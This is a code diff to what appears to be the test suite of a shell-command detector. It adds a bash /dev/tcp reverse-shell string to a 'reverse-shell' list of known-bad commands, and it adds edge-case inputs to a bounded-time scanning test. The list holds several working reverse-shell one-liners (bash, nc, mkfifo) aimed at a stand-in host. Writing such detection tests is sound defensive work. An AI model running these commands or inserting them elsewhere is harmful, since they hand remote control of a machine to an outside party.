@@ -97,6 +97,7 @@ BAD = {
     "reverse-shell": [
         "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
         "nc 203.0.113.7 4444 -e /bin/sh",
+        "exec 5<>/dev/tcp/203.0.113.7/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done",
         "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
     ],
     "destructive": [
@@ -597,6 +598,10 @@ def test_long_lines_are_looked_through_in_bounded_time() -> None:
             "$'a' ",
             '"+"',
             "a\u200b",
+            "a |\n",
+            "a|\n\n",
+            "a | # ",
+            "'a'b",
         ),
     ):
         found(piece * 20_000)
